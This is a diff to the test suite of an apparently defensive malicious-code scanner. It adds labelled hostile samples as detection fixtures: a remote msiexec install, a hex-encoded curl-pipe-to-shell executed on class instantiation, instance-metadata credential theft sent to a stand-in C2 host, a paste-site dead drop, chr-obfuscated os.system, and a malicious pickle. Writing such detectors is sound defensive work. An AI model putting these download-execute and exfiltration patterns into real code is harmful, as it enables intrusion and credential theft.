@@ -451,6 +451,46 @@ TECHNIQUES = [
         "persistence.autostart",
     ),
     (
+        "msiexec-of-a-remote-package-on-import",
+        "import os\nos.popen('msiexec /i https://c2.example.invalid/setup.msi /qn')\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "names-from-a-varargs-chr-helper",
+        "def _s(*c):\n    return ''.join(map(chr, c))\n"
+        "_m = __import__(_s(111, 115))\n"
+        "getattr(_m, _s(115, 121, 115, 116, 101, 109))('echo inert')\n",
+        "obfuscation.hidden-name",
+    ),
+    (
+        "hex-payload-in-a-class-attribute",
+        "import codecs\n"
+        "class Session:\n"
+        "    _cfg = "
+        + repr(b"import os\nos.system('curl -s https://c2.example.invalid/x | sh')\n".hex())
+        + "\n"
+        "    def __init__(self):\n"
+        "        eval(compile(codecs.decode(self._cfg, 'hex'), '<cfg>', 'exec'))\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "instance-metadata-credentials-sent",
+        "import json, urllib.request\n"
+        "MD = 'http://instance-data.example.invalid/latest'\n"
+        "def steal(tok):\n"
+        "    creds = urllib.request.urlopen(MD + '/meta-data/iam/security-credentials/role').read()\n"
+        "    urllib.request.urlopen('https://c2.example.invalid/c', data=creds)\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "paste-site-dead-drop-on-import",
+        "import urllib.request\n"
+        "def _resolve():\n"
+        "    return urllib.request.urlopen('https://pastebin.example.invalid/raw/x8Yk').read()\n"
+        "SERVER = _resolve()\n",
+        "suspicious-endpoint.contacted",
+    ),
+    (
         "dpapi-decryption-sent",
         "import win32crypt, requests\n"
         "def steal(blob):\n"
@@ -576,6 +616,17 @@ LOOKALIKES = [
         "def check():\n"
         "    for name in PRIVATE:\n        pass\n"
         "    for name in PUBLIC:\n        eval(name)\n",
+    ),
+    (
+        "decorator-whose-wrapper-does-the-work-later",
+        "import socket, subprocess\n"
+        "def _load():\n"
+        "    socket.gethostbyname_ex(socket.gethostname())\n"
+        "    subprocess.Popen(['ip', 'addr'])\n"
+        "def _requires(f):\n"
+        "    def wrapped(*a):\n        _load()\n        return f(*a)\n"
+        "    return wrapped\n"
+        "@_requires\ndef local_ips():\n    return []\n",
     ),
     (
         "template-engine-exec-of-generated-code",
@@ -836,3 +887,14 @@ def test_numpy_object_array_with_a_pickled_payload() -> None:
     rule = "unsafe-deserialization.malicious-file"
     assert rule in found_bytes(npy + pickle.dumps([Exec()], protocol=2), "pkg/table.npy")
     assert found_bytes(npy + pickle.dumps(["ok"], protocol=2), "pkg/table.npy") == {}
+
+
+def test_base64_wrapped_pickle_shipped_as_a_cache_file() -> None:
+    class Payload:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return (os.popen, ("echo inert",))
+
+    blob = base64.b64encode(pickle.dumps(Payload(), protocol=4))
+    rule = "unsafe-deserialization.malicious-file"
+    assert rule in found_bytes(blob, "pkg/_pipeline_cache.b64")
+    assert found_bytes(base64.b64encode(pickle.dumps([1, 2], protocol=4)), "pkg/c.b64") == {}
